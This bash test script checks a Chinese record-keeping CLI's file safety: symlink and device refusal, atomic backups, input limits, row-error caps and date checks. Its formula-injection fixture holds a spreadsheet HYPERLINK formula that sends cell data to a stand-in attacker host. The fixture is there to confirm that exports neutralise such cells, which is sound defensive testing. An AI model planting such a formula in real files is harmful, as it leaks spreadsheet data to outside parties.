#!/usr/bin/env bash
# Outputs are atomic and checked, inputs are regular files of bounded size, formula cells are
# neutralised (docs/SECURITY.md, issue 12 items 5, 7, 8): -o never writes through a symbolic link or
# onto a device; a failed write leaves the previous file and no temporary file; publish swaps a
# whole new site in; /dev/zero, FIFOs and directories are refused as inputs; row errors are listed
# up to 200; CSV cells starting with = + - @ carry a leading ' in export, task list and the platform
# files, and export → import gives back the same values; an effective date after next year is refused.
. "$(dirname "$0")/lib.sh"
. "$SUIJI_SRC/tests/cli/trust-lib.sh"

# ---- formula cells ----
expect_rc 0 "$SUIJI" export objects -o "$T/objects.csv"
if grep -qF "\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&B2,\"\"点击\"\")\"" "$T/objects.csv"; then ok; else
	not_ok "export: formula name guarded"; grep HYPERLINK "$T/objects.csv" >&2; fi
if grep -qF ",'+1 焦作市解放区皮革厂," "$T/objects.csv"; then ok; else not_ok "export: leading + guarded"; fi
if grep -qE '(^|,)"?=' "$T/objects.csv"; then not_ok "export: a cell starts with ="; else ok; fi
# JSON carries the value itself
expect_rc 0 "$SUIJI" export objects --format json -o "$T/objects.json"
if grep -qF '"name":"=HYPERLINK(' "$T/objects.json"; then ok; else not_ok "json: value unchanged"; fi
# export → import → export: the same values
expect_rc 0 "$SUIJI" --db "$T/copy.db" init --org 焦作市生态环境局 --region 410800 --level city --admin "$SUIJI_USER" <<<"$ADMIN_PW"
expect_rc 0 "$SUIJI" --db "$T/copy.db" import objects "$T/objects.csv" --date 2025-01-02
expect_eq "$(sqlite3 "$T/copy.db" "select name from object_version where uscc='91410823MA40EE3Y66'")" \
	'=HYPERLINK("http://evil.example/?d="&B2,"点击")' "round trip: formula name"
expect_eq "$(sqlite3 "$T/copy.db" "select name from object_version where uscc='914108111287345640'")" \
	'+1 焦作市解放区皮革厂' "round trip: leading +"
expect_rc 0 "$SUIJI" --db "$T/copy.db" export objects -o "$T/objects2.csv"
expect_eq "$(cmp "$T/objects.csv" "$T/objects2.csv" && echo same)" "same" "export → import → export is lossless"
# a value that itself starts with ' before a formula character survives too
printf '%s\n' "$(head -1 "$DATA/dir/objects.csv")" "91410823MA40EE3Y66,''=x 有限公司,410823,2614,重点,,,,,,,,,,," >"$T/q.csv"
expect_rc 0 "$SUIJI" --db "$T/copy.db" import objects "$T/q.csv" --date 2025-02-01
expect_eq "$(sqlite3 "$T/copy.db" "select name from object_version where uscc='91410823MA40EE3Y66' and valid_to is null")" \
	"'=x 有限公司" "one ' removed on import"
expect_rc 0 "$SUIJI" --db "$T/copy.db" export objects -o "$T/q-out.csv"
if grep -qF ",''=x 有限公司," "$T/q-out.csv"; then ok; else not_ok "a leading ' before = gets one more"; fi
# task list CSV
expect_rc 0 "$SUIJI" task list --format csv -o "$T/tasks.csv"
if grep -qF "\"'=HYPERLINK(" "$T/tasks.csv"; then ok; else not_ok "task list: formula guarded"; fi
# publish: the platform files
expect_rc 0 "$SUIJI" publish --out "$T/site"
for f in national henan; do
	if grep -qF "\"'=HYPERLINK(" "$T/site/platform/$f.csv"; then ok; else not_ok "$f.csv: formula guarded"; fi
	if grep -qE '(^|,)"?[=@+]' "$T/site/platform/$f.csv"; then not_ok "$f.csv: a cell starts with a formula"; else ok; fi
done
if grep -qF '"name": "=HYPERLINK(' "$T/site/platform/national.json"; then ok; else not_ok "national.json: value unchanged"; fi

# ---- -o: symbolic links, devices, directories, missing folders ----
echo OLD >"$T/real.csv"
ln -s "$T/real.csv" "$T/link.csv"
expect_rc 1 "$SUIJI" export objects -o "$T/link.csv"
expect_err "符号链接"
expect_eq "$(cat "$T/real.csv")" "OLD" "not written through the link"
expect_eq "$(readlink "$T/link.csv")" "$T/real.csv" "the link itself left alone"
ln -s "$T/nowhere.json" "$T/dangling.json"
expect_rc 1 "$SUIJI" draw export 1 -o "$T/dangling.json"
expect_err "符号链接"
[ -e "$T/nowhere.json" ] && not_ok "written through a dangling link" || ok
expect_rc 1 "$SUIJI" audit head -o /dev/null
expect_err "不是普通文件"
[ -c /dev/null ] && ok || not_ok "/dev/null replaced"
expect_rc 1 "$SUIJI" key export -o "$T"
expect_err "是目录"
expect_rc 1 "$SUIJI" task list --format csv -o "$T/no/such/dir/tasks.csv"
expect_err "所在目录不存在"
if grep -q "已导出" "$T/err"; then not_ok "success claimed on failure"; else ok; fi
for c in "draw record 1 -o $T/link.csv" "task notice 1 -o $T/link.csv" "key sign $T/objects.csv -o $T/link.csv" \
	"plan show --year 2025 --html $T/link.csv" "export objects --format xlsx -o $T/link.csv"; do
	# shellcheck disable=SC2086
	expect_rc 1 "$SUIJI" $c
	expect_err "符号链接"
done
expect_eq "$(cat "$T/real.csv")" "OLD" "never written through the link"
# backup: not onto a link or a device, even with --force; a temporary file left by a killed backup
# (its process gone) is removed by the next backup into the same file
expect_rc 1 "$SUIJI" backup "$T/link.csv" --force
expect_err "符号链接"
expect_eq "$(cat "$T/real.csv")" "OLD" "backup not written through the link"
expect_rc 1 "$SUIJI" backup /dev/null --force
expect_err "不是普通文件"
[ -c /dev/null ] && ok || not_ok "/dev/null replaced by a backup"
dead=$(bash -c 'echo $$') # a process that has ended
head -c 100000 /dev/zero >"$T/b.db.tmp-$dead"
echo x >"$T/b.db.tmp-$dead-journal"
alive=$$ # this test's shell, alive
echo y >"$T/b.db.tmp-$alive"
expect_rc 0 "$SUIJI" backup "$T/b.db"
[ -e "$T/b.db.tmp-$dead" ] || [ -e "$T/b.db.tmp-$dead-journal" ] && not_ok "a killed backup's temporary file left" || ok
[ -e "$T/b.db.tmp-$alive" ] && ok || not_ok "a running backup's temporary file removed"
rm -f "$T/b.db.tmp-$alive"
# no temporary file left anywhere
expect_eq "$(find "$T" -name '.*.??????' | wc -l)" "0" "no temporary files"

# ---- publish replaces the site whole ----
echo stale >"$T/site/stale.html"
expect_rc 0 "$SUIJI" publish --out "$T/site"
[ -e "$T/site/stale.html" ] && not_ok "old site not replaced" || ok
[ -f "$T/site/index.html" ] && ok || not_ok "new site in place"
mkdir "$T/mine" && echo keep >"$T/mine/notes.txt"
expect_rc 1 "$SUIJI" publish --out "$T/mine"
expect_err "不是空目录"
expect_eq "$(cat "$T/mine/notes.txt")" "keep" "a directory that is not a site is not replaced"
expect_rc 1 "$SUIJI" publish --out .
expect_err "不能是 ."
expect_rc 1 "$SUIJI" publish --out /
expect_err "不能是 /"
ln -s "$T/site" "$T/site-link"
expect_rc 1 "$SUIJI" publish --out "$T/site-link"
expect_err "符号链接"
expect_eq "$(find "$T" -maxdepth 1 -name '.site*' | wc -l)" "0" "no temporary site left"

# ---- inputs ----
before=$(sqlite3 "$SUIJI_DB" .dump | sha256sum)
expect_rc 1 timeout 20 "$SUIJI" import objects /dev/zero
expect_err "是设备，不是普通文件"
expect_rc 1 timeout 20 "$SUIJI" verify /dev/zero
expect_err "是设备，不是普通文件"
mkfifo "$T/fifo"
expect_rc 1 timeout 20 "$SUIJI" import objects "$T/fifo"
expect_err "管道"
expect_rc 1 timeout 20 "$SUIJI" verify "$T/fifo"
expect_err "管道"
expect_rc 1 "$SUIJI" import objects "$T"
expect_err "是目录"
expect_rc 1 timeout 20 "$SUIJI" key sign /dev/zero
expect_err "是设备"
expect_rc 1 timeout 20 "$SUIJI" audit verify --head /dev/zero
expect_err "是设备"
# a sparse file over the limit (2 GiB for imports) is refused before it is read
truncate -s 3G "$T/huge.csv"
expect_rc 1 timeout 20 "$SUIJI" import objects "$T/huge.csv"
expect_err "过大"
expect_eq "$(sqlite3 "$SUIJI_DB" .dump | sha256sum)" "$before" "refused inputs change nothing"

# ---- row errors: the first 200 and a count ----
{ head -1 "$DATA/dir/objects.csv"; for i in $(seq 1 300); do echo "BAD$i,名称,410823,2614,重点,,,,,,,,,,,"; done; } >"$T/bad.csv"
expect_rc 1 "$SUIJI" import objects "$T/bad.csv"
expect_eq "$(grep -c '^第[0-9]*行' "$T/err")" "200" "200 row errors listed"
expect_err "共有 300 处错误（只列出前 200 处，另有 100 处未列出）"
expect_rc 1 "$SUIJI" import objects "$T/bad.csv" --all-errors
expect_eq "$(grep -c '^第[0-9]*行' "$T/err")" "300" "--all-errors lists all"

# ---- effective dates ----
expect_rc 1 "$SUIJI" import objects "$T/objects-in.csv" --date 9999-12-31
expect_err "晚于明年年底"
# "next year" is the server's (Asia/Shanghai): on the last evening of a year, in its last minutes there
export SUIJI_NOW=2026-12-31T23:59:00+08:00
expect_rc 1 "$SUIJI" import objects "$T/objects-in.csv" --date 2028-01-01
expect_err "晚于明年年底"
expect_eq "$(sqlite3 "$SUIJI_DB" .dump | sha256sum)" "$before" "refused dates change nothing"
expect_rc 0 "$SUIJI" import objects "$T/objects-in.csv" --date 2027-12-31 --dry-run
unset SUIJI_NOW

done_testing
